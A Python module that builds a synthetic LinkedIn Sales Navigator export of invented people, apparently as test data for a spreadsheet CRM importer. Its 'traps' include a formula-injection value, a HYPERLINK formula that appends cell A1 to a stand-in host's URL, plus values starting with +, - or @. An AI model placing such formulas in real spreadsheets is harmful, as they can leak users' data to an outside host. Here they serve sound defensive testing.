"""An export of invented people, as by PhantomBuster's Sales Navigator search.

It has the difficulties of real ones: the same person under another form of the URL, rows of failed searches,
colleagues, employers without a page, summaries of several lines, and text that a spreadsheet would convert.
"""

from __future__ import annotations

import datetime as dt
from random import Random
from typing import Final

from sheets_crm.sample.people import PLACES, Company, company, first_and_last, slug

EXPORT_COLUMNS: Final = (
    *("profileUrl", "fullName", "firstName", "lastName", "companyName", "title", "companyId", "companyUrl"),
    *("regularCompanyUrl", "summary", "titleDescription", "industry", "companyLocation", "location"),
    *("durationInRole", "durationInCompany", "pastExperienceCompanyName", "pastExperienceCompanyUrl"),
    *("pastExperienceCompanyTitle", "pastExperienceDate", "pastExperienceDuration", "connectionDegree"),
    *("profileImageUrl", "sharedConnectionsCount", "name", "vmid", "linkedInProfileUrl", "isPremium"),
    *("isOpenLink", "query", "timestamp", "defaultProfileUrl"),
)
ACCOUNT_COLUMNS: Final = ("searchAccountProfileId", "searchAccountProfileName")

_START: Final = dt.datetime(2026, 10, 5, 8, 0, tzinfo=dt.UTC)
_SEARCH: Final = (
    "https://www.linkedin.com/sales/search/people?query=(spellCorrectionEnabled%3Atrue%2Ckeywords%3Acrm)"
)
_TITLES: Final = (
    "Directora de Operaciones",
    "CEO & Co-Founder",
    "Responsable de Compras, Iberia",
    "Head of Sales 🚀",
    "Jefe de Proyecto; Calidad",
    "Directeur commercial",
    "Geschäftsführer",
    'Consultora "senior"',
)
_SUMMARIES: Final = (
    'Más de 10 años en el sector.\n\nMe gusta "hacer que las cosas pasen", medir y mejorar. 💡\n- Ventas\n- Datos',
    "Apasionada de la tecnología; viajo, leo y corro maratones.",
    "Passionné par l'industrie, l'énergie et les gens.\r\nParlons-en !",
    "",
    "Building teams, products\tand (sometimes) furniture.",
)
# Column and text: a spreadsheet that guesses types would change each of them.
_TRAPS: Final = (
    ("summary", '=HYPERLINK("https://trap.example/?x="&A1,"Ver perfil")'),
    ("title", "+34600123456"),
    ("titleDescription", "-5"),
    ("summary", "@todos los que leen esto"),
    ("location", "007"),
    ("durationInRole", "1-2"),
    ("firstName", "TRUE"),
    ("titleDescription", "5.10"),
    ("summary", "Una vida larga, contada despacio. " * 350),
    ("titleDescription", "12345678901234567"),
    ("lastName", "{lastName} 🎯, MBA"),
    ("title", "'ya con apóstrofo"),
)


def export_rows(
    count: int = 500, seed: int = 7, *, account_columns: bool = False
) -> tuple[list[str], list[list[str]]]:
    """The header and rows of an export.

    Args:
        count: Distinct people; there are also one repeated row for every 40 and one row of a failed search (only
            ``query`` and ``timestamp``) for every 100, at least one of each.
        seed: The same seed makes the same rows.
        account_columns: Whether to add the two columns that newer exports end with.
    """
    if count <= 0:
        return _header(account_columns=account_columns), []
    random = Random(seed)  # noqa: S311 - a sample, not a secret
    people = [_person(random, number, _company_number(random, count)) for number in range(count)]
    repeated = [_again(random.choice(people), form) for form in range(max(1, count // 40))]
    failed = [_failed(number) for number in range(max(1, count // 100))]
    rows = [*people, *repeated, *failed]
    random.shuffle(rows)
    header = _header(account_columns=account_columns)
    accounts = {"searchAccountProfileId": "900000001", "searchAccountProfileName": "Cuenta Operador"}
    return header, [[(row | accounts).get(name, "") for name in header] for row in rows]


def _header(*, account_columns: bool) -> list[str]:
    return [*EXPORT_COLUMNS, *(ACCOUNT_COLUMNS if account_columns else ())]


def _company_number(random: Random, count: int) -> int:
    """The number of a person's employer, drawn from 1.4 companies for each person.

    So about half of the companies employ nobody and the others 1.4 people on average, most of them one.
    """
    return random.randrange(max(1, round(1.4 * count)))


def _person(random: Random, number: int, employer: int) -> dict[str, str]:
    first, last = first_and_last(number)
    member = f"ACwAA{number:06d}{''.join(random.choices('ABCDEFGHJKLMNPQRSTUVWXYZ', k=6))}"
    row = {
        "profileUrl": f"https://www.linkedin.com/sales/lead/{member},NAME_SEARCH,{_session(random)}",
        "firstName": first,
        "lastName": last,
        "title": random.choice(_TITLES),
        "summary": random.choice(_SUMMARIES),
        "titleDescription": random.choice(("", "Equipo de 12 personas.\nPresupuesto, compras y calidad.")),
        "location": random.choice(PLACES),
        "vmid": member,
        "linkedInProfileUrl": f"https://www.linkedin.com/in/{member}",
        "defaultProfileUrl": "",
        "timestamp": _stamp(number),
        **_employment(random, company(employer)),
        **_habits(random, number),
    }
    if random.random() < 0.6:
        row["defaultProfileUrl"] = f"https://www.linkedin.com/in/{slug(f'{first} {last}')}-{number:06d}"
    row |= {column: text.replace("{lastName}", last) for column, text in _trap(number).items()}
    return row | {
        "fullName": f"{row['firstName']} {row['lastName']}",
        "name": f"{row['firstName']} {row['lastName']}",
    }


def _employment(random: Random, employer: Company) -> dict[str, str]:
    with_page = {
        "companyId": employer.id,
        "companyUrl": f"https://www.linkedin.com/sales/company/{employer.id}",
        "regularCompanyUrl": f"https://www.linkedin.com/company/{employer.id}",
        "industry": employer.industry,
        "companyLocation": employer.place,
    }
    return {
        "companyName": employer.name,
        "durationInRole": f"{random.randint(1, 9)} years {random.randint(1, 11)} months in role",
        "durationInCompany": f"{random.randint(9, 20)} years {random.randint(1, 11)} months in company",
        **(with_page if random.random() > 0.06 else {}),
    }


def _habits(random: Random, number: int) -> dict[str, str]:
    """The columns that are not imported."""
    past = company(number + 17)
    return {
        "pastExperienceCompanyName": past.name,
        "pastExperienceCompanyUrl": f"https://www.linkedin.com/sales/company/{past.id}",
        "pastExperienceCompanyTitle": "Jefa de Proyecto",
        "pastExperienceDate": "Jan 2019 - Dec 2020",
        "pastExperienceDuration": "2 years",
        "connectionDegree": random.choice(("2nd", "3rd", "3rd+", "Out of Network")),
        "profileImageUrl": f"https://media.trap.example/image/{number}?e=1&v=beta",
        "sharedConnectionsCount": str(random.randrange(12)),
        "isPremium": random.choice(("TRUE", "FALSE")),
        "isOpenLink": random.choice(("true", "false")),
        "query": _SEARCH,
    }


def _trap(number: int) -> dict[str, str]:
    """A text that a spreadsheet would change, for every fifth person."""
    place, hit = divmod(number, 5)
    return dict([_TRAPS[place % len(_TRAPS)]]) if hit == 3 else {}


def _again(row: dict[str, str], form: int) -> dict[str, str]:
    """The same person in another search: other session noise, or only the public URL."""
    session = f"{row['profileUrl'].partition(',')[0]},NAME_SEARCH,x{form:03d}"
    repeated = row | {"profileUrl": session, "timestamp": _stamp(form + 100_000), "connectionDegree": "1st"}
    if row["defaultProfileUrl"] and form % 2:
        public = row["defaultProfileUrl"].replace("https://www.", "http://es.") + "/?originalSubdomain=es"
        repeated |= {"defaultProfileUrl": public, "profileUrl": "", "vmid": "", "linkedInProfileUrl": ""}
    return repeated


def _failed(number: int) -> dict[str, str]:
    return {"query": f"{_SEARCH}&page={number + 1}", "timestamp": _stamp(number + 200_000)}


def _session(random: Random) -> str:
    return "".join(random.choices("abcdefghijkmnpqrstuvwxyz0123456789", k=4))


def _stamp(seconds: int) -> str:
    moment = _START + dt.timedelta(seconds=seconds)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{seconds % 1000:03d}Z"
